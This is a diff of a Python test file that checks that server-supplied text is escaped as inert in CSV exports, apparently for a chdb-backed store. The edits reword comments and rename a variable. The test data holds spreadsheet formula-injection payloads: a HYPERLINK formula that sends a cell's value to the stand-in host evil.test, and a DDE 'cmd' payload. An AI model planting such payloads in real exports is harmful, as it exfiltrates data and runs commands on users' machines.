@@ -1,4 +1,4 @@
-"""Names and headers that servers chose, as formulas of a spreadsheet, in every CSV."""
+"""Names and headers that servers chose, as formulas in a spreadsheet, in every CSV."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ from store import open_store
 from tests import stores
 
 LINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
-# Text of a server -> what CSV has.
+# Text from a server -> text in CSV.
 TEXTS = {
     LINK: f"'{LINK}",
     "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
@@ -51,12 +51,12 @@ def test_answers_in_csv_have_no_formulas_and_other_formats_are_exact(tables: Pat
         "SELECT " + ", ".join(f"'{text}' AS c{n}" for n, text in enumerate(quoted)) + ", -5 AS n, -0.5 AS f"
     )
     with open_store() as store:
-        for asked, wanted in (
+        for statement, wanted in (
             (query, "CSV"),
             (query, "CSVWithNames"),
             (f"{query} FORMAT CSVWithNamesAndTypes", "TSV"),
         ):
-            row = _read(store.formatted(asked, wanted).content.decode())[-1]
+            row = _read(store.formatted(statement, wanted).content.decode())[-1]
             assert row == [*TEXTS.values(), "-5", "-0.5"]
     (exact,) = stores.rows(f"chdb:{tables}", query)
     assert list(exact.values()) == [*TEXTS, -5, -0.5]
